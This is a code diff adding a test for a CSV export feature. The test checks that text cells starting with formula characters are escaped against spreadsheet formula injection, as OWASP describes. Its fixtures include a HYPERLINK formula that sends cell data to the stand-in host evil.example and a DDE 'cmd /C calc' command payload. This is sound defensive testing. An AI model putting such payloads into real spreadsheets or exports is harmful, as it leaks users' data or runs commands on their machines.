@@ -195,6 +195,53 @@ describe('CSV export', () => {
   });
 });
 
+describe('CSV export against formula injection (OWASP)', () => {
+  it("writes a text cell that would start a formula with a leading ' inside quotes, and never changes a number", async () => {
+    const own = await startService();
+    try {
+      const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+      const evilLabel = '@SUM(1+1)*cmd|" /C calc"!A0';
+      writeDisseminations(own.service.internals.store, [
+        { id: 'e1', urn: U(1), productName: evilName, recipientLabel: evilLabel, requestedAt: '2026-03-02T10:00:00.000Z',
+          steps: [{ type: 'sent', at: '2026-03-02T10:01:00.000Z', bytes: 42, files: 1, fixity: 'verified' }] },
+        { id: 'e2', urn: U(2), productName: '+33 1 23 45 67 89', recipientLabel: '-minus', requestedAt: '2026-03-03T10:00:00.000Z',
+          steps: [{ type: 'failed', at: '2026-03-03T10:01:00.000Z', error: '-1 bytes left', final: true, attempt: 1 }] },
+        { id: 'e3', urn: U(3), productName: '\tTabbed', recipientLabel: '\rReturn', requestedAt: '2026-03-04T10:00:00.000Z' },
+        { id: 'e4', urn: U(4), productName: '＝ＳＵＭ(1)', recipientLabel: 'a=b, @ inside is fine', requestedAt: '2026-03-05T10:00:00.000Z',
+          // numbers are never text cells, even negative (the event log is Fonds' own: none is, in practice)
+          steps: [{ type: 'sent', at: '2026-03-05T10:01:00.000Z', bytes: -5, files: 0, fixity: 'verified' }] },
+      ]);
+      const target = path.join(out, 'formulas.csv');
+      await own.service.call('reports.export', { path: target, format: 'csv', filters: { from: '2026-03-01', to: '2026-03-31' } });
+      const text = fs.readFileSync(target, 'utf8');
+      const lines = text.split('\r\n');
+      expect(lines[1]).toBe(`${U(1)},"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",project1,"'@SUM(1+1)*cmd|"" /C calc""!A0",2026-03-02T10:00:00.000Z,2026-03-02T10:01:00.000Z,2026-03-02T10:00:00.000Z,auto,DONE,42,1,verified,1,`);
+      expect(lines[2]).toBe(`${U(2)},"'+33 1 23 45 67 89",project1,"'-minus",2026-03-03T10:00:00.000Z,,,,FAILED,0,0,,1,"'-1 bytes left"`);
+      expect(lines[4]).toBe(`${U(4)},"'＝ＳＵＭ(1)",project1,"a=b, @ inside is fine",2026-03-05T10:00:00.000Z,2026-03-05T10:01:00.000Z,2026-03-05T10:00:00.000Z,auto,DONE,-5,0,verified,1,`);
+      const rows = parseCsv(text, { columns: true, record_delimiter: '\r\n' }) as Array<Record<string, string>>;
+      expect(rows.map((r) => [r.productName, r.recipientLabel])).toEqual([
+        [`'${evilName}`, `'${evilLabel}`],
+        ["'+33 1 23 45 67 89", "'-minus"],
+        ["'\tTabbed", "'\rReturn"],
+        ["'＝ＳＵＭ(1)", 'a=b, @ inside is fine'],
+      ]);
+      expect(rows.map((r) => [r.bytes, r.files, r.attempts])).toEqual([
+        ['42', '1', '1'],
+        ['0', '0', '1'],
+        ['0', '0', '0'],
+        ['-5', '0', '1'],
+      ]);
+      // the JSON export carries the values as they are
+      const json = path.join(out, 'formulas.json');
+      await own.service.call('reports.export', { path: json, format: 'json', filters: { from: '2026-03-01', to: '2026-03-31' } });
+      const doc = JSON.parse(fs.readFileSync(json, 'utf8')) as ReportDocument;
+      expect(doc.rows.map((r) => r.productName)).toEqual([evilName, '+33 1 23 45 67 89', '\tTabbed', '＝ＳＵＭ(1)']);
+    } finally {
+      await own.dispose();
+    }
+  });
+});
+
 describe('JSON export', () => {
   it('matches its JSON Schema and holds the fixture rows and summary', async () => {
     const r = await exportTo('jan.json', { filters: JANUARY, format: 'json' });
